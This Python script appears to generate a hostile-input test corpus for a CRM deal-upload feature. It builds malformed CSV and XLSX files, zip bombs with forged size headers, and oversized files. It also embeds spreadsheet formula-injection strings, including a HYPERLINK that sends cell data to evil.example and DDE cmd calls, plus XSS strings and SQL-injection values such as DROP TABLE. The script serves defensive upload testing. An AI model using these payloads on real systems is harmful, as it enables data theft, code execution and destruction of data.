"""The hostile-input corpus: files a user (or an attacker) may drop on the Upload page or pass to the CLI.

    python tests/data/hostile/make_corpus.py           # rewrite the small files (committed, next to this script)
    python tests/data/hostile/make_corpus.py --large   # write the large ones into generated/ (git-ignored)

Everything is deterministic (fixed seeds, fixed ZIP timestamps), so the committed small files equal what
``small_files()`` returns (tests/test_hostile_corpus.py checks it) and the large ones are rebuilt on demand
by ``ensure_large()`` whenever this script changes.  Expected outcomes live in the tests, not here.
"""

from __future__ import annotations

import functools
import hashlib
import io
import os
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
GENERATED = HERE / "generated"
MB = 1024 * 1024

HEADER = ["Deal ID", "Deal Name", "Account Name", "Owner", "Stage", "Amount", "Close Date", "Created Date"]
STAGES = ("Closed Won", "Closed Lost", "Negotiation")


def deal_row(i: int) -> list[str]:
    """A plain deal row; ids D00001 ..., closing in 2025."""
    return [
        f"D{i:05d}",
        f"Deal {i}",
        f"Acme {i % 7}",
        ("Wang Fang", "Li Na", "Zhang Wei")[i % 3],
        STAGES[i % 3],
        f"{1000 + i * 10}.00",
        f"2025-{i % 12 + 1:02d}-{i % 28 + 1:02d}",
        f"2025-{i % 12 + 1:02d}-01",
    ]


def csv_line(fields: Iterable[str], delimiter: str = ",") -> str:
    out = []
    for value in fields:
        if any(ch in value for ch in (delimiter, '"', "\n", "\r")) or value != value.strip():
            value = '"' + value.replace('"', '""') + '"'
        out.append(value)
    return delimiter.join(out)


def csv_text(header: list[str], rows: Iterable[list[str]], newline: str = "\r\n") -> str:
    return newline.join([csv_line(header), *(csv_line(r) for r in rows)]) + newline


def deals_csv(n: int, start: int = 1) -> bytes:
    return csv_text(HEADER, (deal_row(i) for i in range(start, start + n))).encode()


# ------------------------------------------------------------------ a minimal xlsx writer
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
    'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/styles.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>'
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Deals" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>'
)
_STYLES = (
    '<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    '2006/main"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><fills count="2">'
    '<fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2">'
    '<xf/><xf fontId="0" fillId="1" applyFill="1"/></cellXfs></styleSheet>'
)
_SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheetData>'
)
_SHEET_END = b"</sheetData></worksheet>"
_FIXED_TIME = (2025, 1, 1, 0, 0, 0)


def _col(k: int) -> str:
    name = ""
    k += 1
    while k:
        k, rem = divmod(k - 1, 26)
        name = chr(65 + rem) + name
    return name


def sheet_rows(rows: Iterable[list[str]], first: int = 1) -> Iterator[bytes]:
    for r, row in enumerate(rows, start=first):
        cells = "".join(
            f'<c r="{_col(c)}{r}" t="inlineStr"><is><t>{escape(v)}</t></is></c>' for c, v in enumerate(row)
        )
        yield f'<row r="{r}">{cells}</row>'.encode()


def _member(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, _FIXED_TIME)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def write_xlsx(out, sheet_parts: Iterable[bytes]) -> None:
    """A one-sheet workbook written as raw XML (openpyxl would take minutes for a million rows)."""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (
            ("[Content_Types].xml", _CONTENT_TYPES),
            ("_rels/.rels", _ROOT_RELS),
            ("xl/workbook.xml", _WORKBOOK),
            ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
            ("xl/styles.xml", _STYLES),
        ):
            archive.writestr(_member(name), text)
        with archive.open(_member("xl/worksheets/sheet1.xml"), "w") as sheet:
            sheet.write(_SHEET_START)
            for part in sheet_parts:
                sheet.write(part)
            sheet.write(_SHEET_END)


def xlsx_bytes(rows: list[list[str]]) -> bytes:
    out = io.BytesIO()
    write_xlsx(out, sheet_rows(rows))
    return out.getvalue()


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 4 for _ in range(4))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


# ------------------------------------------------------------------ small files (committed)
def _binary_garbage() -> bytes:
    return random.Random(1).randbytes(4096)


def _truncated_xlsx() -> bytes:
    whole = xlsx_bytes([HEADER, *(deal_row(i) for i in range(1, 40))])
    return whole[: len(whole) * 2 // 3]


def _corrupt_xlsx() -> bytes:
    """A well-formed ZIP holding a workbook whose sheet XML is broken mid-tag."""
    good = b"".join(sheet_rows([HEADER, *(deal_row(i) for i in range(1, 6))]))
    out = io.BytesIO()
    write_xlsx(out, [good[: len(good) // 2], b"<row r=<<<\x00 broken"])
    return out.getvalue()


def _invalid_utf8_middle() -> bytes:
    rows = [deal_row(i) for i in range(1, 1001)]
    for i, row in enumerate(rows):
        row[2] = f"客户{i % 7} 有限公司"
    lines = csv_text(HEADER, rows).encode().split(b"\r\n")
    lines[500] = lines[500].replace(b"Deal 500", b"Deal \xff\xfe\xc3( 500")  # line 501 of the file
    return b"\r\n".join(lines)


def _mixed_delimiters() -> bytes:
    rows = [deal_row(i) for i in range(1, 11)]
    lines = [csv_line(HEADER)]
    for k, row in enumerate(rows):
        lines.append(csv_line(row, ";" if k in (3, 7) else "\t" if k == 5 else ","))
    return ("\r\n".join(lines) + "\r\n").encode()


def _ragged_rows() -> bytes:
    lines = [csv_line(HEADER)]
    for i in range(1, 11):
        row = deal_row(i)
        if i in (2, 6):
            row = [*row, "surplus", "more surplus"]  # two fields more than the header
        elif i in (4, 8):
            row = row[:6]  # no Close Date, no Created Date
        elif i == 9:
            row = row[:3]  # no Stage either: rejected, Stage is required
        lines.append(csv_line(row))
    return ("\r\n".join(lines) + "\r\n").encode()


def _nul_bytes() -> bytes:
    data = bytearray(deals_csv(12))
    for pos in (30, 200, 201, 202, 400, 700):
        data[pos:pos] = b"\x00"
    return bytes(data) + b"\x00\x00"


def _nul_padded() -> bytes:
    """A fixed-width exporter's CSV: every field padded with NULs to 16 bytes, the file to a 4 KB block.
    More than 30% of its first bytes are NUL, yet every other byte is text: it loads, the NULs removed."""
    lines = [",".join(c.ljust(16, "\x00") for c in line.split(",")) for line in deals_csv(6).decode().split("\r\n")]
    data = "\r\n".join(lines).encode()
    return data + b"\x00" * (-len(data) % 4096)


def _binary_nul_runs() -> bytes:
    """A binary record format: random bytes between runs of NULs, mostly NUL.  Still refused as binary."""
    rng = random.Random(2)
    return b"".join(rng.randbytes(24) + b"\x00" * 40 for _ in range(64))


FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


def _formulas() -> bytes:
    header = [*HEADER, "=HYPERLINK(\"http://evil.example\",\"Notes\")"]
    rows = []
    for i, formula in enumerate(FORMULAS, start=1):
        row = deal_row(i)
        row[1] = formula  # Deal Name
        if i == 2:
            row[5] = "-1500.50"  # a plain negative amount stays a number
        rows.append([*row, formula])
    return csv_text(header, rows).encode()


XSS_SCRIPT = "<script>window.__xss=1</script>"
XSS_IMG = '<img src=x onerror="window.__xss=1">'
XSS_MD_LINK = "[click me](javascript:window.__xss=1)"
XSS_MD_IMAGE = "![x](http://127.0.0.1:9/evil.png)"


def html_script_csv() -> bytes:
    header = [*HEADER, XSS_SCRIPT, XSS_IMG, XSS_MD_LINK]
    rows = []
    for i in range(1, 6):
        row = deal_row(i)
        row[1] = XSS_SCRIPT if i % 2 else XSS_IMG  # Deal Name
        row[3] = XSS_MD_IMAGE if i == 3 else row[3]  # Owner: a dimension shown in charts and tables
        first, second = (XSS_SCRIPT, XSS_IMG) if i % 2 else (XSS_IMG, XSS_SCRIPT)  # two values: a dimension
        rows.append([*row, first, second, XSS_MD_LINK])
    return csv_text(header, rows).encode()


SQL_VALUES = ("' OR 1=1 --", "'; DELETE FROM uploads; --")
SQL_HEADERS = ['"; DROP TABLE deals; --', "Robert'); DROP TABLE uploads;--", "_row", "_upload_id", "_extra"]


def _sql_headers() -> bytes:
    header = [*HEADER, *SQL_HEADERS]
    rows = [[*deal_row(i), SQL_VALUES[i % 2], f"{i}; DROP TABLE settings", "x", "99", "y"] for i in range(1, 6)]
    return csv_text(header, rows).encode()


def _empty_repeated_headers() -> bytes:
    header = ["Deal ID", "", "Stage", "Amount", "Amount", "Close Date", "", "Stage"]
    rows = []
    for i in range(1, 6):
        d = deal_row(i)
        rows.append([d[0], f"no header {i}", d[4], d[5], str(i), d[6], f"other {i}", "Closed Won"])
    return csv_text(header, rows).encode()


def _dates_extreme() -> bytes:
    dates = ["0001-01-01", "9999-12-31", "0001-01-01 00:00:00", "9999-12-31 23:59:59", "2025-03-31", "10000-01-01"]
    rows = []
    for i, day in enumerate(dates, start=1):
        row = deal_row(i)
        row[6] = day  # Close Date
        row[7] = day if i <= 2 else row[7]  # Created Date
        rows.append(row)
    return csv_text(HEADER, rows).encode()


AMOUNTS = ["1e308", "-1e308", "1.7976931348623157e308", "1e309", "NaN", "nan", "inf", "-Infinity", "12.5"]


def _amounts_extreme() -> bytes:
    rows = []
    for i, amount in enumerate(AMOUNTS, start=1):
        row = deal_row(i)
        row[4] = "Closed Won"
        row[5] = amount
        rows.append(row)
    return csv_text(HEADER, rows).encode()


def _no_stage() -> bytes:
    """Deals without the required Stage column: refused inside the load transaction (with --entity deals)."""
    keep = [0, 1, 5, 6]
    return csv_text([HEADER[k] for k in keep], ([deal_row(i)[k] for k in keep] for i in range(1, 6))).encode()


SMALL: dict[str, Callable[[], bytes]] = {
    "empty.csv": lambda: b"",
    "header_only.csv": lambda: (csv_line(HEADER) + "\r\n").encode(),
    "binary_garbage.csv": _binary_garbage,
    "png_named.xlsx": _png,
    "truncated.xlsx": _truncated_xlsx,
    "corrupt.xlsx": _corrupt_xlsx,
    "invalid_utf8_middle.csv": _invalid_utf8_middle,
    "mixed_delimiters.csv": _mixed_delimiters,
    "ragged_rows.csv": _ragged_rows,
    "nul_bytes.csv": _nul_bytes,
    "nul_padded.csv": _nul_padded,
    "binary_nul_runs.csv": _binary_nul_runs,
    "formulas.csv": _formulas,
    "html_script.csv": html_script_csv,
    "sql_headers.csv": _sql_headers,
    "empty_repeated_headers.csv": _empty_repeated_headers,
    "dates_extreme.csv": _dates_extreme,
    "amounts_extreme.csv": _amounts_extreme,
    "no_stage.csv": _no_stage,
}


def small_files() -> dict[str, bytes]:
    return {name: build() for name, build in SMALL.items()}


# ------------------------------------------------------------------ large files (generated/)
@functools.cache
def _bomb() -> bytes:
    """A workbook whose sheet XML is 1.2 GB of whitespace after two real rows (1.2 MB compressed)."""
    out = io.BytesIO()
    padding = b" " * (4 * MB)
    write_xlsx(out, [*sheet_rows([HEADER, deal_row(1)]), *(padding for _ in range(300))])
    return out.getvalue()


def _zip_bomb(path: Path, *, declared: int | None = None) -> None:
    """The bomb; with ``declared`` its ZIP headers lie that the sheet is small, as a hand-made bomb would
    (the stream still inflates to 1.2 GB)."""
    data = bytearray(_bomb())
    if declared is not None:
        info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml")
        struct.pack_into("<I", data, info.header_offset + 22, declared)  # local header: uncompressed size
        central = data.rfind(b"PK\x01\x02")  # the sheet is the last entry of the central directory
        struct.pack_into("<I", data, central + 24, declared)
    path.write_bytes(bytes(data))


def _million_empty_rows(path: Path) -> None:
    def empty_rows() -> Iterator[bytes]:
        chunk = []
        for r in range(7, 7 + 1_000_000):
            chunk.append(
                b'<row r="%d" s="1" customFormat="1"><c r="A%d" s="1"/><c r="B%d" s="1"/><c r="C%d" s="1"/>'
                b'<c r="D%d" s="1"/><c r="E%d" s="1"/></row>' % (r, r, r, r, r, r)
            )
            if len(chunk) == 20_000:
                yield b"".join(chunk)
                chunk = []
        yield b"".join(chunk)

    with open(path, "wb") as out:
        write_xlsx(out, [*sheet_rows([HEADER, *(deal_row(i) for i in range(1, 6))]), *empty_rows()])


def _wide_10000_columns(path: Path) -> None:
    header = [*HEADER, *(f"Custom Field {k}" for k in range(len(HEADER) + 1, 10_001))]
    rows = [[*deal_row(i), *(f"v{i}.{k}" if k % 50 == 0 else "" for k in range(len(HEADER) + 1, 10_001))]
            for i in range(1, 21)]
    path.write_bytes(csv_text(header, rows).encode())


def _huge_cell(path: Path) -> None:
    header = [*HEADER, "Description"]
    words = "lorem ipsum 客户 \"quoted\" dolor, sit; amet\t"
    cell = (words * (50 * MB // len(words.encode()) + 1)).encode()[: 50 * MB].decode("utf-8", "ignore")
    with open(path, "wb") as out:
        out.write((csv_line(header) + "\r\n").encode())
        for i in range(1, 4):
            out.write((csv_line([*deal_row(i), cell if i == 2 else f"short {i}"]) + "\r\n").encode())


def _over_limit(path: Path) -> None:
    """A valid deals export of about 3 MB (the tests lower CRM_OKR_MAX_UPLOAD_MB to 2 to refuse it)."""
    path.write_bytes(deals_csv(45_000))


def _big_deals(path: Path) -> None:
    """About 90 MB of deals: long enough to load that a process can be killed in the middle."""
    owners = ("Wang Fang", "Li Na", "Zhang Wei")
    with open(path, "wb") as out:
        out.write((csv_line([*HEADER, "Notes"]) + "\r\n").encode())
        for first in range(1, 800_001, 50_000):
            out.write("".join(
                f"D{i:07d},Deal {i},Acme {i % 7},{owners[i % 3]},{STAGES[i % 3]},{1000 + i % 5000}.00,"
                f"2025-{i % 12 + 1:02d}-{i % 28 + 1:02d},2025-{i % 12 + 1:02d}-01,note {i} xxxxxxxxxxxxxxxxxxxx\r\n"
                for i in range(first, first + 50_000)
            ).encode())


LARGE: dict[str, Callable[[Path], None]] = {
    "zip_bomb.xlsx": _zip_bomb,
    "zip_bomb_lying.xlsx": lambda path: _zip_bomb(path, declared=64 * 1024),
    "million_empty_rows.xlsx": _million_empty_rows,
    "wide_10000_columns.csv": _wide_10000_columns,
    "huge_cell_50mb.csv": _huge_cell,
    "over_limit.csv": _over_limit,
    "big_deals.csv": _big_deals,
}


def _stamp() -> str:
    return hashlib.sha256(Path(__file__).read_bytes()).hexdigest()[:16]


def ensure_large(names: Iterable[str] | None = None) -> dict[str, Path]:
    """The large files (built when missing, or when this script changed since they were built)."""
    GENERATED.mkdir(exist_ok=True)
    stamp = GENERATED / ".stamp"
    if not stamp.exists() or stamp.read_text() != _stamp():
        for old in GENERATED.iterdir():
            if old.name != ".stamp":
                old.unlink()
        stamp.write_text(_stamp())
    paths = {}
    for name in names or LARGE:
        path = GENERATED / name
        if not path.exists():
            partial = path.with_name(f"{path.name}.{os.getpid()}.part")
            LARGE[name](partial)
            partial.replace(path)
        paths[name] = path
    return paths


def main(argv: list[str]) -> None:
    if "--large" in argv:
        for name, path in ensure_large().items():
            print(f"{path.stat().st_size:>14,}  generated/{name}")
        return
    for name, data in small_files().items():
        (HERE / name).write_bytes(data)
        print(f"{len(data):>14,}  {name}")


if __name__ == "__main__":
    main(sys.argv[1:])
